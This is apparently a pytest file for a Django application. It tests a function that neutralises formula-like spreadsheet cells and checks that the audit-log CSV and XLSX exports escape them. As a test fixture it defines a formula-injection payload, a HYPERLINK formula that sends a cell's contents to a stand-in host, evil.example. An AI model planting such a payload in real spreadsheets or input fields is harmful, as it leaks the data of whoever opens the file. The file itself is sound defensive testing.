"""The one neutralising rule for spreadsheet cells (ops/cells.py) and the audit trail's exports."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.test import Client

from accounts.roles import Role
from ops.cells import is_formula_like, neutralize_cell, write_text
from tests.factories import MinistryFactory, UserFactory

EVIL = '=HYPERLINK("http://evil.example/?leak="&J5,"Click")'


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        (EVIL, "'" + EVIL),
        ("+1+cmd", "'+1+cmd"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),  # a negative number written as text stays a number
        ("-3e5", "-3e5"),
        (-5, -5),
        (Decimal("-1.25"), Decimal("-1.25")),
        ("plain", "plain"),
        (None, None),
    ],
)
def test_neutralize_cell(raw, safe):
    assert neutralize_cell(raw) == safe


def test_write_text_keeps_the_text_but_not_as_formula():
    ws = openpyxl.Workbook().active
    cell = write_text(ws["A1"], EVIL)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (EVIL, "s", True)
    number = write_text(ws["A2"], -5)
    assert (number.value, number.data_type) == (-5, "n")
    assert not is_formula_like("-5")


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_audit_export_neutralises_a_malicious_name(settings, fmt):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    MinistryFactory(code=EVIL[:20], name="Evil")  # object_repr is the code
    client = Client()
    client.force_login(UserFactory(username="x-auditor", role=Role.AUDITOR))
    response = client.get(f"/audit/export.{fmt}")
    assert response.status_code == 200
    if fmt == "csv":
        cells = [
            c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row
        ]
    else:
        wb = openpyxl.load_workbook(io.BytesIO(response.content))
        cells = [c.value for row in wb.active.iter_rows() for c in row if c.value is not None]
        assert all(c.data_type != "f" for row in wb.active.iter_rows() for c in row)
    assert any(str(c).startswith("'=HYPERLINK") for c in cells)
    assert not any(str(c).startswith("=") for c in cells)
